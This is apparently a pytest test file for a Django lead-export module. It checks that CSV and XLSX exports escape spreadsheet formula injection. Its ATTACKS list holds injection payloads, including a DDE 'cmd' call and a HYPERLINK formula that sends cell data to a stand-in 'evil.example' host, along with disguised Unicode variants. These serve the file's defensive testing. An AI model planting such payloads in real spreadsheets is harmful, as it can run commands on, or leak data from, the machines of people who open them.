"""What a visitor writes does not run in the client's spreadsheet."""

import csv
import re
import unicodedata
import zipfile
from datetime import UTC, datetime
from decimal import Decimal
from io import BytesIO, StringIO

import pytest
from django.utils.translation import override
from hypothesis import example, given
from hypothesis import strategies as st

from leads.models import Lead
from leads.queries import leads_in
from leads.spreadsheets import Cell, csv_file, csv_table, safe_text, xlsx_file, xlsx_table

SIGNS = "=+-@|%"
ATTACKS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "=cmd|'/C calc'!A0",
    "|cmd",
    "%0",
    " =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    "\x1f=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u00a0=1+1",
    "\u00ad=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    "﹦1+1",
    "⁺1",
    "⩵1",
    "1;=1+1",
    "1,=cmd|'/C calc'!A0,",
    '";=1+1;"',
    '"=1+1',
    "x;\t=1+1",
    "x,＝1+1",
    "x\r\n=1+1",
    "x\n;=1+1",
    "'=1+1",
    ';"=1+1',
    '=HYPERLINK("http://evil.example?"&A1,"x")',
]


def begins_a_formula(cell: str) -> bool:
    """As the most eager spreadsheet would see it."""
    seen = "".join(
        sign
        for sign in unicodedata.normalize("NFKC", cell)
        if not sign.isspace() and unicodedata.category(sign) not in ("Cc", "Cf")
    )
    return seen[:1] != "" and seen[0] in SIGNS


def cells_of(line: str, separator: str) -> list[str]:
    """A line cut by a spreadsheet with another separator; quotes count, and quotes do not."""
    quoted = next(csv.reader([line], delimiter=separator))
    plain = [cell.strip('"') for cell in re.split(f"[{separator}\r\n]", line)]
    return [*quoted, *plain]


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("separator", [";", ",", "\t"])
def test_no_cell_begins_a_formula_whatever_it_is_cut_by(attack: str, separator: str):
    text = csv_table(["Name", "Request"], [["Eve", attack]]).decode("utf-8-sig")

    line = text.splitlines()[1]
    assert len(text.splitlines()) == 2
    assert [cell for cell in cells_of(line, separator) if begins_a_formula(cell)] == []


@given(st.text(alphabet=st.sampled_from(" \t\r\n;,\"'=+-@|%＝＠ax1\u200b\x00"), max_size=30))
@example('",=1')
def test_no_mixture_of_signs_begins_one(text: str):
    line = csv_table(["Text"], [[text]]).decode("utf-8-sig").splitlines()[1]

    for separator in (";", ",", "\t"):
        assert not any(map(begins_a_formula, cells_of(line, separator))), line


def test_every_sign_that_is_a_formula_in_disguise_is_guarded():
    disguised = [
        sign
        for sign in map(chr, range(0x110000))
        if not 0xD800 <= ord(sign) < 0xE000
        and unicodedata.normalize("NFKC", sign)[:1] in tuple(SIGNS)
    ]

    assert len(disguised) > 15
    assert [sign for sign in disguised if not safe_text(f"{sign}1").startswith("'")] == []


def test_what_is_harmless_stays_as_it_is():
    for text in ("Anna Kováčová", "a-b", "3 + 4 = 7", "eva@firma.sk", "50 % zľava", "it's"):
        assert safe_text(text) == text


def test_csv_is_what_european_spreadsheets_expect():
    rows: list[list[Cell]] = [
        ["Žofia", Decimal("-12.50"), datetime(2026, 5, 4, 9, 30, tzinfo=UTC), None]
    ]
    content = csv_table(["Názov", "Suma", "Kedy", "Nič"], rows)

    assert content.startswith(b"\xef\xbb\xbf")
    assert content.decode("utf-8-sig") == (
        '"Názov";"Suma";"Kedy";"Nič"\r\n"Žofia";"-12.50";"2026-05-04 09:30";""\r\n'
    )


@pytest.mark.parametrize(
    ("language", "written"),
    [("en", '"9.90";"0.9333";"-12.5"'), ("sk", '"9,90";"0,9333";"-12,5"')],
)
def test_numbers_have_the_comma_of_the_language(language: str, written: str):
    """Where a comma is written, a spreadsheet makes a day of September out of 9.90."""
    with override(language):
        content = csv_table(["a", "b", "c"], [[Decimal("9.90"), 0.9333, -12.5]])

    assert content.decode("utf-8-sig").splitlines()[1] == written


def test_xlsx_holds_no_formula_and_no_link():
    rows: list[list[Cell]] = [
        [attack, Decimal("1.50")] for attack in [*ATTACKS, "https://evil.example", "x" * 40000]
    ]
    content = xlsx_table("Leads", ["Name", "Value"], rows)

    with zipfile.ZipFile(BytesIO(content)) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
        assert "<f>" not in sheet
        assert "<hyperlink" not in sheet
        assert sheet.count('t="inlineStr"') == len(rows) + 2
        assert "=1+1" in sheet
        assert "<v>1.50</v>" in sheet


def test_leads_are_exported_as_the_scope_sees_them(office, other_office, captured):
    captured(name="=Eve", request="prvý riadok\ndruhý")
    captured(name="Zoë", phone="", email="zoe@firma.sk")
    with office.scope():
        Lead.objects.filter(name="Zoë").update(value=Decimal("9.90"), currency="EUR")
        rows = leads_in(office.brand)
        table = list(csv.reader(StringIO(csv_file(rows, "UTC").decode("utf-8-sig")), delimiter=";"))
        assert xlsx_file(rows, "UTC")
    with other_office.scope():
        assert len(csv_file(leads_in(), "UTC").splitlines()) == 1

    assert [len(row) for row in table] == [14, 14, 14]
    assert [row[2] for row in table] == ["Name", "Zoë", "'=Eve"]
    assert [row[8:10] for row in table[1:]] == [["9.90", "EUR"], ["", ""]]
    assert table[2][5] == "prvý riadok druhý"


def test_a_file_that_is_not_everything_says_so(office, captured, monkeypatch):
    for number in range(3):
        captured(phone=f"090512345{number}", email="")
    with office.scope():
        rows = leads_in(office.brand)
        monkeypatch.setattr("leads.spreadsheets.MAX_ROWS", 3)
        whole = csv_file(rows, "UTC").decode()
        monkeypatch.setattr("leads.spreadsheets.MAX_ROWS", 2)
        cut = csv_file(rows, "UTC").decode()

    said = "Only the latest 2 leads are here. Choose a brand or a period for the others."
    assert (len(whole.splitlines()), "Choose" in whole) == (4, False)
    assert cut.splitlines()[3:] == [f'"{said}"']


def test_an_export_asks_the_database_once(office, captured, django_assert_num_queries):
    for number in range(3):
        captured(phone=f"090512345{number}", email="")
    with office.scope(), django_assert_num_queries(1):
        csv_file(leads_in(office.brand), "UTC")
